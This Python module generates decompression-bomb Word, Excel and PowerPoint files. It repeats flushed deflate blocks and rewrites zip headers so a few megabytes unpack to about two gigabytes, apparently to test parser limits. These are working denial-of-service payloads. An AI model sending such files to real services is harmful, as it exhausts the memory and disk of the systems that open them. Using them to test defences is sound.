"""Office files of some megabytes whose XML unpacks to gigabytes, made without ever holding these."""

from __future__ import annotations

import io
import zipfile
import zlib
from pathlib import Path

UNPACKED_BYTES = 2_000_000_000
_CHUNK = b"a" * 1_000_000
_PART = {
    ".docx": "word/document.xml",
    ".xlsx": "xl/worksheets/sheet1.xml",
    ".pptx": "ppt/slides/slide1.xml",
    ".odt": "content.xml",
}


def office_bomb(template: bytes, suffix: str, unpacked_bytes: int = UNPACKED_BYTES) -> bytes:
    """Return the file `template` with its main text, at the first "X", blown up to `unpacked_bytes`."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template)) as source, zipfile.ZipFile(target, "w") as bomb:
        for item in source.infolist():
            content = source.read(item)
            if item.filename == _PART[suffix]:
                before, _, after = content.partition(b">X<")
                assert after, content
                _write_blown_up(bomb, item.filename, before + b">", b"<" + after, unpacked_bytes // len(_CHUNK))
            else:
                bomb.writestr(item.filename, content)
    return target.getvalue()


def _write_blown_up(bomb: zipfile.ZipFile, name: str, before: bytes, after: bytes, chunks: int) -> None:
    """Write an entry of `chunks` megabytes: blocks after a full flush know nothing of each other and can be repeated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    head = packer.compress(before) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(_CHUNK) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = head + block * chunks + packer.compress(after) + packer.flush()
    checksum = zlib.crc32(before)
    for _ in range(chunks):
        checksum = zlib.crc32(_CHUNK, checksum)
    bomb.writestr(name, packed)  # stored; its headers are then made those of a packed entry
    entry = bomb.getinfo(name)
    entry.compress_type, entry.CRC = zipfile.ZIP_DEFLATED, zlib.crc32(after, checksum)
    entry.file_size = len(before) + chunks * len(_CHUNK) + len(after)
    assert bomb.fp is not None
    end = bomb.fp.tell()
    bomb.fp.seek(entry.header_offset)
    bomb.fp.write(entry.FileHeader())
    bomb.fp.seek(end)


def write_bombs(folder: Path, unpacked_bytes: int = UNPACKED_BYTES) -> list[Path]:
    """Write one file of each format, and return their paths."""
    from docx import Document
    from openpyxl import Workbook
    from pptx import Presentation

    word, book, slides = Document(), Workbook(), Presentation()
    word.add_paragraph("X")
    book.active.append(["X"])  # type: ignore[union-attr]
    slides.slides.add_slide(slides.slide_layouts[5]).shapes.title.text = "X"  # type: ignore[union-attr]
    paths = []
    for made, suffix in ((word, ".docx"), (book, ".xlsx"), (slides, ".pptx")):
        path = folder / f"bomb{suffix}"
        made.save(path)
        path.write_bytes(office_bomb(path.read_bytes(), suffix, unpacked_bytes))
        paths.append(path)
    return paths
